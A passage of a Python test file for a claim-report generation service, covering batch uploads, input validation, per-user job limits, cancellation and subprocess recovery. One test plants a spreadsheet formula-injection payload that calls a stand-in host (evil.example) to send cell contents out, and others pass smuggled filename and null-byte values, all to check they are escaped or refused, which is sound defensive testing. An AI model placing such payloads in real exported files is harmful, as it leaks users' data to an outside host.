        r = c.post("/api/batch?filename=day.jsonl", content=b'{"input": ' + b"[" * 100_000 + b"\n", headers={"content-type": "application/jsonl"})
        assert r.status_code == 422 and "day.jsonl" in r.text, r.text
        assert c.post("/api/draft", json={"meta": {**META, "vendor": "Ac\x00me"}}).status_code == 422
        assert c.post("/generate_claim", json={**META, "vendor": "Ac\x00me"}).status_code == 422
        assert c.post("/api/batch", params={"filename": "day\x00.csv"}, content=GOOD_CSV, headers={"content-type": "text/csv"}).status_code == 422
        job = c.post("/api/batch", params={"filename": 'Zählung ";x=y.csv'}, content=GOOD_CSV, headers={"content-type": "text/csv"})
        assert job.status_code == 200, job.text
        finished(c, job.json()["job"])
        r = c.get(f"/api/batch/{job.json()['job']}/download")
        assert r.status_code == 200, r.text
        cd = r.headers["content-disposition"]
        assert cd == "attachment; filename=\"Z_hlung __x_y-reports.csv\"; filename*=UTF-8''Z%C3%A4hlung%20%22%3Bx%3Dy-reports.csv", cd


def test_downloads_escape_formulas(gen):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    up = ('id,shipment_id,damage_type,severity\n"' + evil.replace('"', '""') + '",SHP-1,dent,high\n+1,SHP-2,dent,low\n@x,SHP-3,dent,low\n').encode()
    import csv, io
    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
        job = c.post("/api/batch?filename=day.csv", content=up, headers={"content-type": "text/csv"}).json()["job"]
        finished(c, job)
        rows = list(csv.reader(io.StringIO(c.get(f"/api/batch/{job}/download?format=csv").text)))
        assert [r[1] for r in rows[1:]] == ["'" + evil, "'+1", "'@x"]
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
        lines = [json.loads(l) for l in c.get(f"/api/batch/{job}/download?format=jsonl").text.splitlines()]
        assert [l["id"] for l in lines] == ["'" + evil, "'+1", "'@x"]


def test_batch_rows_pass_the_same_field_checks(gen):
    "A 5,000-character vendor is refused as /generate_claim refuses it, naming the line, instead of generated and truncated."
    up = ("shipment_id,damage_type,severity,vendor\nSHP-1,dent,high,Acme\nSHP-2,dent,high," + "V" * 5000 + "\nSHP-3,dent,high,Acme\n").encode()
    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
        assert c.post("/generate_claim", json={**META, "vendor": "V" * 5000}).status_code == 422
        r = c.post("/api/batch?filename=day.csv", content=up, headers={"content-type": "text/csv"})
        assert r.status_code == 422 and "day.csv:3: field(s) ['vendor']" in r.text and "at most 200 characters" in r.text, r.text
        assert "day.csv:2" not in r.text and "day.csv:4" not in r.text


def _slow_echo(seconds, gen):
    calls = []
    def generate(texts): calls.append(len(texts)); time.sleep(seconds); return checked_echo(gen)(texts)
    return generate, calls


def test_batch_jobs_are_bounded_in_all_and_per_user(gen, tmp_path):
    from claim_t5.serve import add_user
    keys = {n: add_user(tmp_path/"u.yaml", n) for n in ("ann", "bob", "cy")}
    generate, _ = _slow_echo(0.05, gen)
    big = ("shipment_id,damage_type,severity\n" + "".join(f"SHP-{i},dent,high\n" for i in range(400))).encode()
    with make_client(create_app(StandIn(gen, generate), users=tmp_path/"u.yaml", max_jobs=2, max_jobs_per_user=1)) as c:
        up = lambda who: c.post("/api/batch?filename=day.csv", content=big, headers={"content-type": "text/csv", "X-API-Key": keys[who]})
        a = up("ann"); assert a.status_code == 200
        again = up("ann")
        assert again.status_code == 429 and int(again.headers["retry-after"]) >= 1 and "per user" in again.text, again.text
        assert up("bob").status_code == 200
        full = up("cy")
        assert full.status_code == 429 and "2 batch jobs are running" in full.text and int(full.headers["retry-after"]) >= 1
        assert c.get(f"/api/batch/{a.json()['job']}", headers={"X-API-Key": keys["bob"]}).status_code == 404  # not Bob's
        assert c.delete(f"/api/batch/{a.json()['job']}", headers={"X-API-Key": keys["ann"]}).status_code == 200
        time.sleep(0.2)
        assert up("cy").status_code == 200  # a cancelled job frees its place


def test_cancelled_and_evicted_jobs_stop_generating(gen):
    generate, calls = _slow_echo(0.05, gen)
    big = ("shipment_id,damage_type,severity\n" + "".join(f"SHP-{i},dent,high\n" for i in range(400))).encode()
    app = create_app(StandIn(gen, generate), max_jobs=5, max_jobs_per_user=5)
    app.state.desk_jobs.keep = 1  # the next job evicts the first
    with make_client(app) as c:
        first = c.post("/api/batch?filename=a.csv", content=big, headers={"content-type": "text/csv"}).json()["job"]
        wait_until(lambda: len(calls) >= 2)
        task = app.state.desk_jobs.jobs[first]["task"]
        second = c.post("/api/batch?filename=b.csv", content=big, headers={"content-type": "text/csv"}).json()["job"]
        wait_until(task.done); assert task.cancelled()  # evicted: its work stopped, not thrown away at the end
        r = c.delete(f"/api/batch/{second}")
        assert r.status_code == 200
        job = app.state.desk_jobs.jobs[second]
        wait_until(job["task"].done)
        n = len(calls); time.sleep(0.5)
        assert len(calls) <= n + 1, "a cancelled job kept generating"  # at most the chunk already running
        s = c.get(f"/api/batch/{second}").json()
        assert "cancelled" in s["error"] and s["done"] < 400


def test_a_batch_job_never_makes_generate_claim_answer_503(gen):
    "Interactive requests go first and have their own queue room: with a 1,000-row batch running, none is refused."
    generate, calls = _slow_echo(0.01, gen)
    big = ("shipment_id,damage_type,severity\n" + "".join(f"SHP-{i},dent,high\n" for i in range(1000))).encode()
    app = create_app(StandIn(gen, generate), max_queue=4, batch_lane=4)
    with make_client(app) as c:
        job = c.post("/api/batch?filename=day.csv", content=big, headers={"content-type": "text/csv"}).json()["job"]
        wait_until(lambda: len(calls) >= 3)
        def one(i): return c.post("/generate_claim", json={**META, "shipment_id": f"SHP-{900000 + i}"}).status_code
        with ThreadPoolExecutor(4) as ex: codes = list(ex.map(one, range(40)))
        assert codes == [200] * 40, codes
        assert c.get(f"/api/batch/{job}").json()["rows"] is None  # the batch was still running meanwhile
        assert max(calls) <= 4  # a batch chunk is never larger than the batch lane
        s = finished(c, job, timeout=60)
        assert s["done"] == 1000 and s["error"] is None


@pytest.mark.slow  # starts a generation process
def test_batch_jobs_own_process_killed_mid_job_the_job_finishes(model_dir, gen):
    """The desk's batch jobs in a generation process of their own (the command's default): drafts never go there; after a
    SIGKILL of that child mid-job the job still ends with every row once, in order, and the drafts' generator is untouched."""
    import os, signal
    from claim_t5.serve import GenerationProcess
    bg = GenerationProcess(model_dir, threads=1, device="cpu", nice=19)
    drafts = []
    def draft_gen(texts): drafts.append(len(texts)); return checked_echo(gen)(texts)
    rows = "shipment_id,damage_type,severity\n" + "".join(f"SHP-{40000 + i},{DAMAGES[i % 4]},high\n" for i in range(60))
    app = create_app(StandIn(gen, draft_gen), batch_gen=bg, batch_lane=4)
    try:
        with make_client(app) as c:
            assert bg.pid is None  # started by the first batch job, not with the service
            job = c.post("/api/batch?filename=day.csv", content=rows.encode(), headers={"content-type": "text/csv"}).json()["job"]
            wait_until(lambda: c.get(f"/api/batch/{job}").json()["done"] >= 8, 60)
            first = bg.pid
            assert os.getpriority(os.PRIO_PROCESS, first) == min(19, os.nice(0) + 19)
            os.kill(first, signal.SIGKILL)
            assert c.post("/generate_claim", json=META).status_code == 200  # the drafts' generator is not the one killed
            s = finished(c, job, timeout=120)
            assert s["done"] == 60 and s["error"] is None, s
            lines = [json.loads(l) for l in c.get(f"/api/batch/{job}/download?format=jsonl").text.splitlines()]
            assert [l["input"].split(";")[0] for l in lines] == [f"shipment_id=SHP-{40000 + i}" for i in range(60)]  # each row once, in order
            assert all(not l["report"].startswith("report for") for l in lines)  # generated by the model in the batch child, not the drafts' echo
            st = c.get("/status").json()["batch_jobs"]
            assert st["process"] == "own" and st["restarts"] == 1 and st["pid"] not in (None, first), st
        assert drafts == [1] and bg.pid is None and not pid_alive(first)  # one draft; shutdown stopped the batch child
    finally:
        bg.close()
